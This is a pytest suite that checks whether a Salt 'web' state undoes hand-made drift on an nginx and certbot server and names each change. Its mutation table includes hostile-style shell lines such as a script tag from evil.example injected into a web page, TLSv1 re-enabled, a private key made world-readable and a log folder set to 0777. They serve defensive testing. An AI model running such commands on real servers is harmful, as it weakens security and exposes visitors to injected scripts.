"""What somebody changes by hand in the web concern is undone by one apply, and each change is named."""

from __future__ import annotations

import pytest

# What is done to the droplet | the state that must name it | a word of its changes.
MUTATIONS = {
    "site edited": (
        "sed -i 's/server_tokens/#/; s/^ssl_protocols.*/ssl_protocols TLSv1 TLSv1.1 TLSv1.2;/' /etc/nginx/sites-available/giggles",
        "nginx-site-giggles",
        "TLSv1.1",
    ),
    "nginx.conf broken": ("echo 'not a directive' >> /etc/nginx/nginx.conf", "nginx-configuration", "not a directive"),
    "site added": (
        "echo 'server { listen 8081; }' > /etc/nginx/sites-available/mine; ln -s ../sites-available/mine /etc/nginx/sites-enabled/mine",
        "nginx-sites-enabled-exact",
        "/etc/nginx/sites-enabled/mine",
    ),
    "site file added": ("touch /etc/nginx/sites-available/other", "nginx-sites-available-exact", "/etc/nginx/sites-available/other"),
    "conf.d file added": (
        "echo 'client_max_body_size 9g;' > /etc/nginx/conf.d/big.conf",
        "nginx-conf.d-exact",
        "/etc/nginx/conf.d/big.conf",
    ),
    "module added": ("touch /etc/nginx/modules-enabled/50-mine.conf", "nginx-modules-enabled-exact", "50-mine.conf"),
    "snippet added": ("touch /etc/nginx/snippets/mine.conf", "nginx-snippets-exact", "/etc/nginx/snippets/mine.conf"),
    "site link swapped": (
        "ln -sfn /etc/nginx/nginx.conf /etc/nginx/sites-enabled/giggles",
        "nginx-site-giggles-enabled",
        "/etc/nginx/sites-enabled/giggles",
    ),
    "site mode": ("chmod 0666 /etc/nginx/sites-available/giggles", "nginx-site-giggles", "0644"),
    "nginx.conf owner": ("chown www-data /etc/nginx/nginx.conf", "nginx-configuration", "root"),
    "connection limits lowered": (
        "sed -i -E 's/(worker_rlimit_nofile|worker_connections) [0-9]+/\\1 64/' /etc/nginx/nginx.conf",
        "nginx-configuration",
        "worker_rlimit_nofile 64",
    ),
    "certificate link swapped": (
        "ln -sfn /etc/nginx/tls/placeholder /etc/nginx/tls/current",
        "certificate-linked",
        "/etc/letsencrypt/live",
    ),
    "placeholder key exposed": ("chmod 0644 /etc/nginx/tls/placeholder/privkey.pem", "placeholder-certificate-present", "0600"),
    "renewal hook added": (
        "mkdir -p /etc/letsencrypt/renewal-hooks/pre; touch /etc/letsencrypt/renewal-hooks/pre/mine",
        "renewal-pre-hooks-exact",
        "renewal-hooks/pre/mine",
    ),
    "reload hook deleted": ("rm /etc/letsencrypt/renewal-hooks/deploy/reload-nginx", "renewal-reloads-nginx", "New file"),
    "renewal timer stopped": ("systemctl disable --now giggles-certbot.timer", "renewal-timer-running", "giggles-certbot.timer"),
    "renewal unit edited": (
        "sed -i 's/renew/certificates/' /etc/systemd/system/giggles-certbot.service",
        "giggles-certbot.service-installed",
        "renew",
    ),
    "certbot deleted": ("rm /opt/certbot/current/bin/certbot", "certbot-installed", "built"),
    "certbot link swapped": ("ln -sfn /tmp /opt/certbot/current", "certbot-installed", "current"),
    "certbot settings edited": ("echo 'staging = true' >> /etc/letsencrypt/cli.ini", "certbot-settings", "staging = true"),
    "nginx override added": (
        "printf '[Service]\\nNoNewPrivileges=no\\n' > /etc/systemd/system/nginx.service.d/zz.conf; systemctl daemon-reload",
        "nginx-unit-overrides-exact",
        "zz.conf",
    ),
    "log rotation deleted": ("rm /etc/logrotate.d/nginx", "nginx-logs-rotated", "New file"),
    "log folder opened": ("chmod 0777 /var/log/nginx", "nginx-logs-private", "0751"),
    "unavailable page edited": (
        "echo '<script src=//evil.example></script>' >> /usr/local/share/giggles/web/giggles-unavailable.html",
        "nginx-unavailable-page",
        "evil.example",
    ),
    "nginx masked and stopped": ("systemctl stop nginx; systemctl mask nginx", "nginx-running", "nginx"),
}


@pytest.fixture(scope="module")
def repaired(droplet):
    """Do all of it at once, then apply once: the repair of one must not depend on another being whole."""
    for script, _, _ in MUTATIONS.values():
        droplet.shell(script)
    announced = droplet.apply("web", "test=True")
    assert announced.code == 0, announced.failed
    outcome = droplet.apply("web")
    assert outcome.code == 0, outcome.failed or outcome.text
    return announced, outcome


@pytest.mark.parametrize("kind", MUTATIONS)
def test_drift_is_undone_and_named(repaired, kind):
    announced, outcome = repaired
    _, state, word = MUTATIONS[kind]
    assert word in str(outcome.states[state]["changes"]), outcome.states[state]
    assert state in announced.changed, "test=True did not announce it"


def test_after_the_repair_nothing_is_left_to_do(droplet, repaired):
    assert droplet.apply("web").changed == {}
    assert droplet.apply("web", "test=True").changed == {}
    left = droplet.shell("cd /etc/nginx; find sites-available sites-enabled conf.d modules-enabled snippets -mindepth 1")
    assert sorted(left.split()) == ["sites-available/giggles", "sites-enabled/giggles"]
    assert droplet.shell("systemctl is-active nginx giggles-certbot.timer").split() == ["active", "active"]
    assert droplet.shell("systemctl is-enabled nginx giggles-certbot.timer").split() == ["enabled", "enabled"]
    assert droplet.request(path="/static/missing").status == 404


def test_missing_packages_come_back(droplet):
    droplet.exec(["apt-get", "-qq", "-y", "purge", "nginx", "nginx-common"], timeout=120)
    announced = droplet.apply("web", "test=True")
    assert announced.code == 0, announced.failed
    outcome = droplet.apply("web")
    assert outcome.code == 0, outcome.failed
    assert "nginx" in outcome.states["nginx-packages-installed"]["changes"]
    assert droplet.request(path="/static/missing").status == 404
    assert droplet.apply("web").changed == {}


def test_invalid_site_is_not_put_in_place(droplet):
    """A choice that nginx refuses leaves the site as it is, and nginx running."""
    before = droplet.shell("sha256sum /etc/nginx/sites-available/giggles")
    droplet.shell("cd /srv/giggles-salt/salt; cp osmap.yaml /root/; sed -i 's/^  tls_groups: .*/  tls_groups: no-such-group/' osmap.yaml")
    try:
        outcome = droplet.apply("web")
    finally:
        droplet.shell("cp /root/osmap.yaml /srv/giggles-salt/salt/osmap.yaml")
    assert outcome.code != 0
    assert "no-such-group" in outcome.failed["nginx-site-giggles"]
    assert droplet.shell("sha256sum /etc/nginx/sites-available/giggles") == before
    assert droplet.request(path="/static/missing").status == 404
    assert droplet.apply("web").changed == {}
